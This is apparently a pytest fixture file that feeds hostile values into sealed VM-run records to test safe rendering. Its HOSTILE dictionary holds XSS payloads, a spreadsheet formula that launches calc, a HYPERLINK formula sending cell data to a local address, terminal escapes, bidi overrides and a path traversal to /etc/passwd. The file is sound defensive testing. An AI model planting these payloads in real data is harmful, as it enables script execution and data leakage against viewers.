"""Records to read: one that was forced off, and one whose every word is hostile."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest

from tests.chromium import chromium
from tests.rehearsal import Rehearsal

IMG = "<img src=x onerror=alert(1)>"
SCRIPT = "<script>document.title='OWNED'</script>"
ESCAPES = f"{IMG}\x1b]0;owned\x07\x9b31m\u202e"
# Formulas of a spreadsheet, marks that turn the reading direction, ways out of a folder.
HOSTILE = {
    "vm_name": IMG,
    "operator": "@SUM(1+1)*cmd|'/c calc'!A0",
    "reason": f'=HYPERLINK("http://127.0.0.1:9/?x="&A1,"click") </pre>{SCRIPT}',
    "ticket": "../../../etc/\u202epasswd\u2066 [x](javascript:alert(1)) @everyone",
}


@pytest.fixture(scope="session")
def forced(tmp_path_factory: pytest.TempPathFactory) -> Rehearsal:
    """A sealed record of a run that forced a VM off."""
    run = Rehearsal("stuck", tmp_path_factory.mktemp("forced"))
    digest = run.run().fact("plan_digest")
    run.run(finish=True, approve=digest, approver="Jo", ticket="INC-7", reason="it hangs")
    return run


@pytest.fixture(scope="session")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Rehearsal:
    """Sealed records of runs whose VM, operator, reason and ticket mean harm; the last one planned."""
    run = Rehearsal("stuck", tmp_path_factory.mktemp("hostile"))
    for name in (IMG, ESCAPES):
        run.sim.world.add_vm(name)
    # Not found: the names that look alike are shown, a terminal's escapes among them.
    run.run(finish=True, **{**HOSTILE, "vm_name": IMG[1:]})
    run.run(finish=True, **HOSTILE)
    return run


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    """A Chromium."""
    with chromium() as started:
        yield started
